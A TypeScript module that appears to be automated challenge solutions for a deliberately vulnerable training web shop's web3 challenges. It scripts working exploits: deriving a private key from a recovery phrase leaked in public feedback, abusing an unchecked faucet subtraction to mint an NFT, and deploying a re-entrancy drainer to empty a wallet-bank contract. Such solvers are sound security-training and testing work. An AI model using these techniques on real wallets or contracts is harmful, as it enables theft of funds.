import { abiCall, abiWord, type LocalChainInfo } from '@pulp/shared'
import request from 'supertest'
import { firstAccountOf } from '../../lib/ethereum-wallet'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { expectStatus } from '../../testing/attack-steps'
import { DRAINER_BYTECODE, DRAINER_SELECTORS } from './drainer'

const BEE = 10n ** 18n
const ETHER = 10n ** 18n
/** What the faucet's unchecked ration hands out at once, and a honey pot costs. */
export const HONEY_POT_PRICE = 1000n * BEE

type Contract = LocalChainInfo['contracts'][keyof LocalChainInfo['contracts']]
interface Receipt {
  status: string
  contractAddress: string | null
}

/** The shop's development chain as a wallet meets it: JSON-RPC on the shop's endpoint, accounts the chain signs for. */
export async function localChain(target: AttackTarget) {
  const info = expectStatus(await request(target).get('/rest/web3/localChain'), 200).body as LocalChainInfo
  const rpc = async (method: string, params: unknown[] = []) => {
    const response = await request(target).post(info.rpcPath).send({ jsonrpc: '2.0', id: 1, method, params })
    return response.body as { result?: unknown; error?: { code: number; message: string } }
  }
  const send = async (from: string, to: string | null, data: string, value = 0n): Promise<Receipt> => {
    const { result: hash, error } = await rpc('eth_sendTransaction', [{ from, to, data, value: `0x${value.toString(16)}` }])
    if (error) throw new Error(error.message)
    return (await rpc('eth_getTransactionReceipt', [hash])).result as Receipt
  }
  /** sends a transaction and fails loudly when the chain reverts it */
  const transact = async (from: string, to: string | null, data: string, value = 0n): Promise<Receipt> => {
    const receipt = await send(from, to, data, value)
    if (receipt.status !== '0x1') throw new Error(`transaction to ${to ?? 'a new contract'} reverted`)
    return receipt
  }
  const read = async (to: string, data: string) => BigInt((await rpc('eth_call', [{ to, data }])).result as string)
  const balanceOf = async (address: string) => BigInt((await rpc('eth_getBalance', [address, 'latest'])).result as string)
  return { ...info, rpc, send, transact, read, balanceOf }
}

/** Call data and address for one function of a shop contract. */
export const call = (contract: Contract, signature: string, args: (bigint | string)[] = []) => ({
  to: contract.address,
  data: abiCall(contract.selectors[signature], args),
})

/** The recovery phrase that user "ethereum" posted as feedback, as any visitor can read it. */
export async function postedRecoveryPhrase(target: AttackTarget): Promise<string> {
  const feedback = expectStatus(await request(target).get('/api/Feedbacks'), 200).body.data as { comment: string }[]
  const phrase = feedback.map(({ comment }) => /recovery words[^:]*: ((?:[a-z]+ ){11}[a-z]+)/.exec(comment)?.[1]).find(Boolean)
  if (!phrase) throw new Error('no feedback holds a recovery phrase')
  return phrase
}

/** Deploys the re-entrancy contract against the bank and lets it withdraw more than it paid in. */
export async function drainBank(chain: Awaited<ReturnType<typeof localChain>>, player: string): Promise<void> {
  const { contractAddress } = await chain.transact(player, null, DRAINER_BYTECODE + abiWord(chain.contracts.EthWalletBank.address))
  await chain.transact(player, contractAddress, abiCall(DRAINER_SELECTORS['attack()']), ETHER)
}

export const web3Attacks = {
  // twelve words in a feedback comment are a wallet: its first account's private key unlocks the NFT
  nftUnlockChallenge: async (target) => {
    const { privateKey } = firstAccountOf(await postedRecoveryPhrase(target))
    return request(target).post('/rest/web3/submitKey').send({ privateKey })
  },
  // the faucet checks its ration after an unchecked subtraction: ask for a thousand BEE, pay for a honey pot, mint
  nftMintChallenge: async (target) => {
    expectStatus(await request(target).get('/rest/web3/nftMintListen'), 200)
    const chain = await localChain(target)
    const player = chain.accounts[1]
    for (const step of [
      call(chain.contracts.BeeToken, 'faucet(uint256)', [HONEY_POT_PRICE]),
      call(chain.contracts.BeeToken, 'approve(address,uint256)', [chain.contracts.HoneyPot.address, HONEY_POT_PRICE]),
      call(chain.contracts.HoneyPot, 'mint()'),
    ]) await chain.transact(player, step.to, step.data)
    return request(target).post('/rest/web3/walletNFTVerify').send({ walletAddress: player })
  },
  // the bank pays out before it writes the balance down: a contract that withdraws again while being paid drains it
  web3WalletChallenge: async (target) => {
    const chain = await localChain(target)
    const player = chain.accounts[2]
    expectStatus(await request(target).post('/rest/web3/walletExploitAddress').send({ walletAddress: player }), 200)
    await drainBank(chain, player)
  },
} satisfies Attacks
